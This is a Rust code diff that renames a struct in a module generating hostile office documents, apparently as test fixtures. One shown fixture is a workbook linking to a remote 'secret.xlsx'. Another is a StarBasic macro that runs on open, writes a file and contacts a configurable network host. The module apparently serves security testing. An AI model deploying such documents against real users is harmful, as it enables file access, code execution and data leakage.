@@ -1,4 +1,4 @@
-//! What documents try: each reaches for the network, for files of the machine, or wants to run something.
+//! The attacks of documents: each tries to reach the network or files of the machine, or to run code.
 
 use super::made::{
     drawing, external_link, field, formula, open_document, sheet, slide, slide_picture, word, word_settings,
@@ -8,12 +8,12 @@ use super::made::{
 pub struct Attack {
     pub name: &'static str,
     pub kind: &'static str,
-    pub make: fn(&Aim) -> Vec<u8>,
+    pub make: fn(&DocumentTargets) -> Vec<u8>,
 }
 
 /// What an attack aims at.
 #[derive(Default)]
-pub struct Aim {
+pub struct DocumentTargets {
     pub http: String,
     pub text: String,
     pub picture: String,
@@ -247,10 +247,10 @@ pub const ATTACKS: &[Attack] = &[
         name: "linked workbook elsewhere",
         kind: "xlsx",
         make: |aim| {
-            let elsewhere = Aim {
+            let elsewhere = DocumentTargets {
                 workbook: format!("{}/secret.xlsx", aim.http),
                 sheet: aim.sheet.clone(),
-                ..Aim::default()
+                ..DocumentTargets::default()
             };
             linked(
                 &elsewhere,
@@ -404,7 +404,7 @@ pub const ATTACKS: &[Attack] = &[
 ];
 
 /// An Excel file with one link and a formula that uses it.
-fn linked(aim: &Aim, link: &str, used: &str) -> Vec<u8> {
+fn linked(aim: &DocumentTargets, link: &str, used: &str) -> Vec<u8> {
     let [link, used] = [link, used].map(|text| text.replace("SHEET", &aim.sheet));
     let parts = external_link(&link, &aim.workbook);
     let parts: Vec<(&str, &[u8])> =
@@ -414,7 +414,7 @@ fn linked(aim: &Aim, link: &str, used: &str) -> Vec<u8> {
 }
 
 /// Runs a Basic macro when it is opened, which writes a file and asks the network.
-fn macro_document(aim: &Aim) -> Vec<u8> {
+fn macro_document(aim: &DocumentTargets) -> Vec<u8> {
     let (folder, http) = (aim.folder.trim_start_matches("file://"), &aim.http);
     let module = format!(
         "<?xml version=\"1.0\"?><script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"M\" script:language=\"StarBasic\">\
